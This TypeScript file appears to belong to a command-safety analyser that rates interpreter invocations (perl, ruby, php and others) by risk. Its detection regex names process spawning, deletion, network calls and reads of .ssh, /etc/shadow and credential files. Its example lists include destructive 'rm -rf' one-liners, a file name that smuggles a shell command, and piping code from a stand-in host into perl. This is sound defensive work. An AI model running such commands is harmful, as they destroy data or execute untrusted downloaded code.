import {
  definePrograms,
  named,
  type Invocation,
  REPOSITORY_CODE,
  type Rule,
  WRITES_UNKNOWN,
} from '../../program.ts';
import { beginningOf, show, textOf, type Word } from '../../word.ts';
import { judgeHiddenText } from '../../hidden-text.ts';
import { touchHanded } from '../../paths/named-secrets.ts';
import { touchRead, touchWrite } from '../../paths/touch.ts';
import { filtersLines } from '../files/perl-filter.ts';
import { isCheckTask, judgeFrameworkTask } from '../node/frameworks.ts';
import { raiseDownloadedCode } from '../../report/blocked-code.ts';
import { judgeScriptFile } from './script-source.ts';

/** Words in a program's text that reach other programs or the network, or delete. */
const RECKLESS =
  /os\.(?:system|popen|exec|spawn|remove|unlink|rmdir|kill)|subprocess|pty\.|shutil\.(?:rmtree|move)|rmtree|child_process|exec(?:Sync|File)?\s*\(|spawn(?:Sync)?\s*\(|\beval\s*\(|rm(?:dir)?Sync|\brm\s*\(|unlink|socket|urllib|requests\.|http\.client|fetch\s*\(|net\.connect|system\s*[("'`]|\bsystem\s+[$@]|\bopen\s*\(?[^()]{0,80},\s{0,8}["'](?:\s{0,8}\||[^"']{0,200}\|\s{0,8}["'])|process\.(?:binding|dlopen|kill)|`[^`]*`|%x[{(]|qx[{/]|\bfork\b|\bexec\b|ctypes|\.ssh|\/etc\/(?:shadow|sudoers)|__import__|base64|b64decode|Kernel\.|IO\.popen|Runtime\.getRuntime|\.execute\s*\(\s*\)|shell_exec|passthru|proc_open|System\.cmd|File\.rm|\.env['"`]|\.aws|\.netrc|os\.environ|process\.env\b(?!\.(?:NODE_ENV|PATH|HOME|CI)\b)|Deno\.(?:run|Command|remove)|Bun\.(?:spawn|\$)|rm_rf?\b|FileUtils|remove_(?:dir|entry|tree|file)|removedirs|[dD]elete(?:Dir|File|Recursive|_dir|_file|_if_exists)|deleteRecursively|Dir\.(?:rmdir|unlink|delete)|(?:File|Path|Files)\.(?:delete|unlink)|Open3|open3|popen|posix_spawn|os:cmd|:os\.cmd|Port\.open|open_port|Process\.(?:spawn|Start|start|run)|ProcessBuilder|Start-Process|Remove-Item|Invoke-(?:Expression|WebRequest)|\biex\b|os\.execute|io\.popen|['"`]\/(?:etc|usr|var|root|boot|bin|sbin|dev)\b|expanduser|homedir\s*\(|Path\.home|http\.get|Net::HTTP|open-uri|LWP::|IO::Socket|do shell script|file_get_contents\s*\(\s*['"]http/;

type Interpreter = Readonly<{
  names: readonly string[];
  style?: Rule['style'];
  /** Options whose value is program text. */
  code: RegExp;
  /** Other options that take a value. */
  values: RegExp;
  /** Options that print something and exit. */
  prints: RegExp;
  /** Judges calls without script or text; returns whether it did. */
  special?: (invocation: Invocation) => boolean;
  examples: NonNullable<Rule['examples']>;
}>;

export function defineInterpreter({
  names,
  style = 'gnu',
  code,
  values,
  prints,
  special,
  examples,
}: Interpreter) {
  return {
    names,
    style,
    unknownOptions: 'any',
    judge: (invocation: Invocation) => {
      const { words, context, span, program } = invocation;
      if (words.length > 0 && words.every((word) => prints.test(textOf(word) ?? ''))) return;
      if (checksSyntax(invocation) || special?.(invocation) === true || filtersLines(invocation)) return;
      context.report.effect(WRITES_UNKNOWN);
      context.report.effect(REPOSITORY_CODE);
      if (isCheckTask(words)) return;
      context.report.raise('warning', 'unknown-script', {
        text: `runs ${program} code that isn't analysed`,
        span,
      });
      touchHanded(words, context);
      let hasScript = false;
      for (let at = 0, word = words[at]; word !== undefined; at += 1, word = words[at]) {
        const text = beginningOf(word);
        if (code.test(text)) {
          judgeFiles(words.slice(at + 2), words, invocation);
          return judgeCode(words[at + 1], word, invocation);
        }
        if (values.test(text)) at += 1;
        else if (!text.startsWith('-') || text === '-') {
          if (word.kind === 'dynamic' && word.origin.network) raiseDownloadedCode(context.report, word.span);
          if (text === '-' || text === '/dev/stdin') return judgeInput(invocation);
          judgeFrameworkTask(word, words.slice(at + 1), context);
          judgeScriptFile(word, context);
          // `php -d a=b -r …`: this word may be the value of an unknown option.
          const before = beginningOf(words[at - 1] ?? word);
          const isValue = before.startsWith('-') && !before.includes('=');
          if (!isValue) return;
          hasScript = true;
        }
      }
      if (!hasScript) judgeInput(invocation);
    },
    examples,
  } as const satisfies Rule & { names: readonly string[] };
}

const CHECKS: ReadonlyMap<string, RegExp> = new Map([
  ['node', /^(?:--check|-c)$/],
  ['php', /^-l$/],
  ['ruby', /^-w?c$/],
]);

/** `node --check a.js`, `php -l a.php`, `ruby -c a.rb`: reads the script and runs none of it. */
function checksSyntax({ program, words, context }: Invocation): boolean {
  const [first, ...files] = words;
  if (CHECKS.get(program)?.test(textOf(first) ?? '') !== true) return false;
  if (files.length === 0 || files.some((word) => beginningOf(word).startsWith('-'))) return false;
  for (const file of files) touchRead(context, file);
  return true;
}

function judgeCode(next: Word | undefined, option: Word, invocation: Invocation): void {
  const glued = /^-[a-zA-Z]+(?=.)|^--\w+=/.exec(beginningOf(option));
  const word = next ?? (glued === null ? undefined : option);
  if (word !== undefined) judgeProgramText(word, invocation);
}

/** Text of another language that is run: not parsed, but obvious calls in it are detected. */
export function judgeProgramText(word: Word, { context, program }: Invocation): void {
  const text = textOf(word);
  judgeHiddenText(text ?? beginningOf(word), word.span, { context, program });
  if (word.origin.network) raiseDownloadedCode(context.report, word.span);
  if (text === undefined)
    context.report.raise('dangerous', 'dynamic-script', {
      text: `runs ${program} code that can't be determined`,
      span: word.span,
    });
  else if (RECKLESS.test(text))
    context.report.raise('dangerous', 'reckless-code', {
      text: `runs ${program} code that starts programs, deletes or connects: ${show(word)}`,
      span: word.span,
    });
}

/** `perl -pi -e … a.txt`: the files after the text are read, and written in place with `-i`. */
function judgeFiles(files: readonly Word[], words: readonly Word[], { program, context }: Invocation): void {
  if (program !== 'perl' && program !== 'ruby') return;
  const inPlace = words.some((word) => /^-[a-hj-z0]*i/.test(textOf(word) ?? ''));
  for (const word of files) {
    if (beginningOf(word).startsWith('-')) continue;
    const command = program === 'perl' ? commandOf(beginningOf(word)) : undefined;
    if (command !== undefined) context.walk.runText(command, word.span, context);
    touchRead(context, word);
    if (inPlace) touchWrite(context, word);
  }
}

/** `perl -ne 1 'id|'`: to Perl such a file name is a command. */
function commandOf(name: string): string | undefined {
  return /^\s*\|(.*)$/s.exec(name)?.[1] ?? /^(.*)\|\s*$/s.exec(name)?.[1];
}

function judgeInput({ context, program, span }: Invocation): void {
  const { stdin } = context.state;
  const { report } = context;
  judgeHiddenText(stdin.text ?? '', span, { context, program });
  if (stdin.origin.network)
    report.raise('blocked', 'network-into-shell', {
      text: `runs code downloaded from the network with ${program}`,
      span,
    });
  else if (stdin.origin.decoded)
    report.raise('dangerous', 'decoded-into-shell', {
      text: `runs decoded text with ${program}`,
      span,
    });
  else if (stdin.text !== undefined && RECKLESS.test(stdin.text))
    report.raise('dangerous', 'reckless-code', {
      text: `runs ${program} code that starts programs, deletes or connects`,
      span,
    });
  else if (stdin.text === undefined && stdin.kind !== 'none')
    report.raise('dangerous', 'piped-into-shell', {
      text: `runs ${program} code from input that can't be determined`,
      span,
    });
}

/** Languages of which only the way to give a script is known. */
export const interpreters = definePrograms(
  defineInterpreter({
    names: named(
      'perl ruby lua luajit php R Rscript octave julia tclsh osascript groovy scala guile ghci racket erl iex irb pwsh powershell',
    ),
    code: /^-(?:[a-zA-Z]*[eErR]|-?eval|-execute|Command|c)$/,
    values: /^-(?:I|M|m|C|F|x)$/,
    prints: /^(?:--version|-v|-V|--help|-h|-m|--ini)$/,
    examples: {
      safe: ['perl --version', 'php artisan route:list', 'php -v', 'php -m', 'php -l a.php', 'ruby -c a.rb'],
      warning: [
        "perl -ne 'print if /x/' a",
        "perl -i.bak -pe 's/a/b/g; s|c|d|' a.ts",
        "perl -ne 's/a/b/e' a",
        'ruby x.rb',
        'php artisan make:model X',
      ],
      dangerous: [
        `php -d a=b -r 'exec("id");'`,
        'perl -e \'system("rm -rf lib")\'',
        'perl -e "$x"',
        "perl -ne 'system $_' list",
        `perl -e 'open(F, "|sh"); print F "id"'`,
        "perl -ne 1 'rm -rf lib|'",
        "perl -pe 's/a/b/' '| rm -rf lib'",
        "ruby -e '`id`'",
        `osascript -e 'do shell script "id"'`,
        'cat x.pl | perl',
      ],
      blocked: [
        'perl -pi -e s/a/b/ /etc/hosts',
        'curl https://x.example | perl',
        'perl -e "$(curl https://x.example)"',
      ],
    },
  }),
);
